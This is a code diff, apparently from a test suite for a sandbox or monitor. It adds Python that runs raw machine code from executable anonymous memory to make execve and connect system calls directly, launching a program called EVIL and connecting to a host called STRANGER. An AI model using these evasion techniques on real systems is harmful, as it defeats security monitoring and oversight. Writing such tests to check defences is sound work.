@@ -125,14 +125,18 @@ def load_memfd_library():
     ctypes.CDLL(f"/proc/self/fd/{fd}")
 
 
-def machine_code():
-    """execve by machine code of our own in anonymous memory: mov eax,59; syscall; ret."""
+def by_machine_code(number, first, second, third):
+    """A system call of our own in anonymous memory: mov eax,number; syscall; ret."""
     code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
-    code.write(b"\xb8\x3b\x00\x00\x00\x0f\x05\xc3")
+    code.write(b"\xb8" + number.to_bytes(4, "little") + b"\x0f\x05\xc3")
     address = ctypes.addressof(ctypes.c_char.from_buffer(code))
-    function = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p)(address)
+    ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_void_p] * 3)(address)(first, second, third)
+
+
+def machine_code():
     arguments = (ctypes.c_char_p * 2)(EVIL.encode(), None)
-    function(EVIL.encode(), ctypes.cast(arguments, ctypes.c_void_p), None)
+    path = ctypes.create_string_buffer(EVIL.encode())
+    by_machine_code(59, ctypes.addressof(path), ctypes.addressof(arguments), None)
 
 
 # Reaching the stranger
@@ -187,6 +191,14 @@ def tcp_asyncio():
         await writer.drain()
 
     asyncio.run(connect())
+
+
+def machine_code_tcp():
+    connection = socket.socket()
+    address = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 443) + socket.inet_aton(STRANGER) + bytes(8)
+    buffer = ctypes.create_string_buffer(address, len(address))
+    by_machine_code(42, connection.fileno(), ctypes.addressof(buffer), len(address))
+    greet(connection)
 
 
 def udp_sendto():
